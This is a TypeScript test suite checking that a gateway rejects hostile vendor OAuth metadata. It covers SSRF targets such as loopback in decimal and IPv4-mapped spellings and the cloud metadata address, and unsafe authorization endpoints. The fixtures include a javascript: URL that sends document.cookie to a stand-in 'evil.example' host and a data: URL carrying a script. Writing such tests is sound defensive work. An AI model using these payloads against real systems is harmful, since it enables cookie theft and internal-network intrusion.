// Finding: vendor metadata made the gateway POST its registration to, or GET metadata from, an internal address, and
// the internal answer's first bytes came back in the caller's 502. Here a spawned gateway (no development switch)
// calls a hostile HTTPS vendor whose metadata names an internal TCP service in every spelling; the service must never
// see a connection, and no answer may quote it. The same vendor names `javascript:`, `data:` and plain-http
// authorization endpoints, which must never reach a client.
import { randomBytes } from "node:crypto";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { postJsonRpc } from "svc-testkit/json-rpc";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type SpawnedGateway, spawnGateway } from "../conformance/spawn-gateway.ts";
import { type CompanyLoginIdp, GATEWAY_AUDIENCE, startCompanyLoginIdp } from "./support/company-login-idp.ts";
import {
  type HostileVendor,
  INTERNAL_BANNER,
  type Scenario,
  startHostileVendor,
} from "./support/hostile-vendor.ts";

const SCENARIOS: Record<string, Scenario> = {
  "as-http-internal": { authorizationServer: (_v, port) => `http://127.0.0.1:${port}` },
  "as-https-localhost": { authorizationServer: (_v, port) => `https://localhost:${port}` },
  "as-decimal-loopback": { authorizationServer: (_v, port) => `https://2130706433:${port}` },
  "as-mapped-loopback": { authorizationServer: (_v, port) => `https://[::ffff:127.0.0.1]:${port}` },
  "as-metadata-service": { authorizationServer: () => "https://169.254.169.254/latest" },
  "reg-http-internal": { registrationEndpoint: (_v, port) => `http://127.0.0.1:${port}/register` },
  "reg-https-loopback": { registrationEndpoint: (_v, port) => `https://127.0.0.1:${port}/register` },
  "authz-javascript": { authorizationEndpoint: () => "javascript:fetch('//evil.example/'+document.cookie)" },
  "authz-data": { authorizationEndpoint: () => "data:text/html,<script>alert(1)</script>" },
  "authz-plain-http": { authorizationEndpoint: () => "http://vendor.example/authorize" },
  "authz-https": {},
};

let dir: string;
let vendor: HostileVendor;
let idp: CompanyLoginIdp;
let gateway: SpawnedGateway;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "svc-outbound-"));
  vendor = await startHostileVendor(SCENARIOS, join(dir, "vendor-ca.pem"));
  idp = await startCompanyLoginIdp("http://127.0.0.1:1");
  const servers = Object.keys(SCENARIOS).flatMap((name) => [
    `  - name: ${name}`,
    `    url: ${vendor.origin}/${name}/mcp`,
    // The authorization-endpoint scenarios skip registration (it is not what they test).
    ...(name.startsWith("authz-") ? ["    preregistered_client_id: gateway-client"] : []),
  ]);
  const config = join(dir, "gateway.yaml");
  await writeFile(
    config,
    [
      'version: "1.0"',
      "identity_providers:",
      "  - name: company",
      "    type: hosted_idp",
      `    issuer: ${JSON.stringify(idp.issuer)}`,
      `    jwks_uri: ${JSON.stringify(idp.jwksUri)}`,
      `    api_identifiers: [${JSON.stringify(GATEWAY_AUDIENCE)}]`,
      "    login_client_id: svc-gateway-login",
      "    login_client_secret: login-secret",
      "servers:",
      ...servers,
      "",
    ].join("\n"),
  );
  gateway = await spawnGateway(config, {
    env: {
      SVC_ALLOW_ANONYMOUS: "false",
      SVC_PUBLIC_URL: "https://gateway.test",
      SVC_OAUTH_KV_KEY: randomBytes(32).toString("base64"),
      NODE_EXTRA_CA_CERTS: vendor.caFile,
    },
  });
}, 60_000);

afterAll(async () => {
  await gateway?.stop();
  await vendor?.close();
  await idp?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

/** Alice calls the scenario's server: the gateway's HTTP status and JSON-RPC error. */
async function call(
  scenario: string,
): Promise<{ status: number; error: { code: number; message: string; data: Record<string, unknown> } }> {
  const answer = await postJsonRpc(
    `${gateway.url}/${scenario}/mcp`,
    { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "x", arguments: {} } },
    { authorization: `Bearer ${await idp.userToken("alice")}` },
  );
  const body = (await answer.json()) as {
    error: { code: number; message: string; data: Record<string, unknown> };
  };
  return { status: answer.status, error: body.error };
}

describe("requests that vendor metadata aims", () => {
  it.each([
    [
      "an authorization server on a plain-http internal address",
      "as-http-internal",
      /only https: URLs are fetched/,
    ],
    ["an authorization server named localhost", "as-https-localhost", /resolves to a loopback address/],
    [
      "an authorization server at the decimal spelling of loopback",
      "as-decimal-loopback",
      /resolves to a loopback address/,
    ],
    [
      "an authorization server at IPv4-mapped loopback",
      "as-mapped-loopback",
      /resolves to a loopback address/,
    ],
    [
      "an authorization server at the cloud metadata service",
      "as-metadata-service",
      /resolves to a linkLocal address/,
    ],
    [
      "a registration endpoint on a plain-http internal address",
      "reg-http-internal",
      /only https: URLs are fetched/,
    ],
    [
      "a registration endpoint on loopback over https",
      "reg-https-loopback",
      /resolves to a loopback address/,
    ],
  ])("refuses %s, never connects to it and never quotes it", async (_name, scenario, reason) => {
    const before = vendor.internalConnections();
    const { status, error } = await call(scenario);
    expect(status).toBe(502);
    expect(error.data.reason).toBe("upstream_oauth_failed");
    expect(error.message).toMatch(reason);
    expect(error.message).not.toContain("SECRET");
    expect(JSON.stringify(error)).not.toContain(INTERNAL_BANNER.slice(0, 12));
    expect(vendor.internalConnections()).toBe(before);
  });
});

describe("authorization endpoints handed to users", () => {
  it.each([
    ["javascript:", "authz-javascript", /its scheme javascript: is not https:/],
    ["data:", "authz-data", /its scheme data: is not https:/],
    [
      "plain http to a host that is not loopback",
      "authz-plain-http",
      /plain http: to a host that is not loopback/,
    ],
  ])("never hands out a %s authorization endpoint", async (_name, scenario, problem) => {
    const { status, error } = await call(scenario);
    expect(status).toBe(502);
    expect(error.data.reason).toBe("upstream_oauth_failed");
    expect(error.message).toMatch(problem);
    const text = JSON.stringify(error);
    for (const bad of ["javascript:fetch", "data:text", "http://vendor.example"])
      expect(text).not.toContain(bad);
  });

  it("hands out the gateway's connect link for an https endpoint", async () => {
    const { status, error } = await call("authz-https");
    expect(status).toBe(200);
    expect(error.code).toBe(-32042);
    expect(String(error.data.authorization_url)).toMatch(
      /^https:\/\/gateway\.test\/oauth\/upstream\/connect\//,
    );
  });
});
